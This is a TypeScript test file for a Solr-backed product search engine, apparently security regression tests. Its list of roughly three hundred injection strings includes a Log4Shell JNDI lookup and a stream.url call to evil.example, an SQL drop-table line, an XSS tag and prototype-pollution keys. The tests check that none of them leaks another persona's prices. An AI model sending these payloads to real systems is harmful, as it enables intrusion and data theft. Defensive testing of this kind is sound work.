import { expect, test } from 'vitest';
import { generateProducts } from '../demonstration/products/generate-products.ts';
import { createLogger } from '../http/log.ts';
import { createSearchEngine } from './create-search-engine.ts';
import { createEmbeddedFinder } from './embedded-finder.ts';
import { QueryProblem } from './query.ts';
import type { SearchResponse, SearchRequest } from './search-engine.ts';
import { testSource } from './testing.ts';

const now = () => new Date('2026-11-20T00:00:00Z');
const source = testSource([...generateProducts({ count: 120 })]);
const engine = createSearchEngine({
  source,
  finder: createEmbeddedFinder(source, now, createLogger('silent')),
  rules: () => Promise.resolve(undefined),
  filesOrigin: 'http://files.test',
  now,
  newId: () => 'q',
});

const foreign = ['TVS', 'FAF', 'CAS'];
const parsers = [
  'xmlparser',
  'join from=id to=id',
  'func',
  'frange l=0 u=9',
  'parent which=x',
  'lucene',
  'term f=x',
  'collapse field=x',
  'graph from=a to=b',
  'tag=t',
  'ex=t',
  'cache=false',
];
const functions = ['sum', 'div', 'if', 'exists', 'field', 'query', 'ms', 'strdist', 'def', 'ord', 'docfreq', 'payload'];

/** About three hundred strings with a special meaning to Solr or one of its parsers. */
const attacks = [
  ...parsers.flatMap((parser) => [
    `{!${parser}}*:*`,
    `{!${parser} v=$q}`,
    ` {!${parser}}x`,
    `_query_:"{!${parser}}x"`,
    `a {!${parser}}`,
  ]),
  ...foreign.flatMap((persona) => {
    const field = `priceList.${persona}.finalPrice_d`;
    return [
      field,
      `${field} asc`,
      `${field}:[* TO 1]`,
      `${field}:[0 TO 100]`,
      `${field}:"10"`,
      `*:* AND ${field}:[* TO 1]`,
      `-${field}:[* TO 1]`,
      `+${field}:[* TO 1]`,
      `(${field}:[* TO 1])`,
      `x_s:("a" OR ${field}:[* TO 1])`,
      `Product_Category:("a" OR "b") ${field}:[* TO 1]`,
      `alias:${field}`,
      `priceList.GST.finalPrice_d,${field}`,
      `priceList.*`,
      `priceList.${persona}.*`,
      `*_d`,
      `priceList.${persona.toLowerCase()}.finalPrice_d`,
      `priceList. ${persona}.finalPrice_d`,
      `priceList.${persona}\u0000.finalPrice_d`,
      `priceList.${persona}.finalPrice_d\n`,
      `priceStartingAt.${persona}_d`,
      `priceStartingAt.${persona}_d:[* TO 5]`,
      `discountedPriceStartingAt.${persona}_d`,
      `priceList.${persona}.price_d desc`,
      `priceList.${persona}.saleOffer_s:"true"`,
      `priceList.GST.finalPrice_d:[${field} TO *]`,
      `priceStartingAt.${persona}_d asc`,
      `discountedPriceStartingAt.${persona}_d desc`,
      `discountedPriceStartingAt.${persona}_d:[* TO 5]`,
      `priceList.${persona}.discountedPrice_d`,
      `priceList.${persona}.saleOffer_s`,
      `ctId_s:"x" AND ${field}:[* TO 9]`,
      `${field}:10`,
      `${field}:*`,
      ...functions.map((name) => `${name}(${field})`),
      ...functions.map((name) => `${name}(${field},1) desc`),
    ];
  }),
  ...functions.flatMap((name) => [`_val_:"${name}(1)"`, `${name}(id)`, `${name}(id) asc`, `{!func}${name}(id)`]),
  '[explain]',
  '[child]',
  '[subquery]',
  '[shard]',
  '_root_',
  '_version_',
  '_nest_path_',
  '*',
  '*:* OR 1=1',
  'id:*',
  '__proto__',
  'constructor:"x"',
  '__proto__:"x"',
  'toString asc',
  '/select?q=*:*',
  '&qt=/admin',
  'stream.url=http://evil.example',
  "'; drop table products; --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '%00',
  '\u202e',
  'a'.repeat(5_000),
];

/** The parameters that can carry an attack. */
const places: Record<string, (text: string) => Partial<SearchRequest>> = {
  q: (q) => ({ q }),
  fq: (text) => ({ fq: [text] }),
  fl: (text) => ({ fl: [text] }),
  'fl beside others': (text) => ({ fl: ['ctId_s', text] }),
  sort: (sort) => ({ sort }),
  profile: (profilename) => ({ profilename }),
  collection: (collections) => ({ collections }),
};

/** Returns the attacks whose response contains a price of another persona. */
async function leaks(persona: string): Promise<string[]> {
  const found: string[] = [];
  for (const attack of attacks) {
    for (const [place, requestWith] of Object.entries(places)) {
      const response = await searchFor({ ...requestWith(attack), persona });
      if (response && showsForeignPrice(response)) found.push(`${place}: ${attack}`);
    }
  }
  return found;
}

/**
 * Returns the response, or undefined for a request that is rejected with a QueryProblem; other errors fail the test.
 */
async function searchFor(request: SearchRequest): Promise<SearchResponse | undefined> {
  return engine.search(request).catch((error: unknown) => {
    expect(error).toBeInstanceOf(QueryProblem);
    return undefined;
  });
}

const showsForeignPrice = (response: SearchResponse): boolean =>
  /(?:priceList\.|[pP]riceStartingAt\.)(?:TVS|FAF|CAS)/.test(JSON.stringify(response));

test('a planted fault is detected: a guest who is treated as a trade member gets trade prices', async () => {
  expect((await leaks('TVS')).length).toBeGreaterThan(attacks.length);
});

test('no attack in any parameter reveals the prices of another persona to a guest or crashes the engine', async () => {
  expect(attacks.length).toBeGreaterThan(300);
  expect(await leaks('GST')).toEqual([]);
});

test('local parameters and functions in q are never executed: they are searched as words or rejected', async () => {
  const everything = (await searchFor({ q: '*:*', persona: 'GST' }))?.response?.numFound;
  for (const attack of attacks.filter((text) => /[{(]/.test(text))) {
    const response = await searchFor({ q: attack, persona: 'GST' });
    expect([attack, response?.response?.numFound === everything]).toEqual([attack, false]);
  }
});

test('documents have no inherited object properties', async () => {
  const fl = ['__proto__', 'constructor', 'toString', 'id'];
  const response = await searchFor({ q: '*:*', persona: 'GST', fl });
  expect(response?.response?.docs.length).toBeGreaterThan(0);
  for (const document of response?.response?.docs ?? []) expect(Object.keys(document)).toEqual(['id']);
});

test('no attack has polluted the object prototype', () => {
  expect(Object.keys(Object.prototype)).toEqual([]);
});
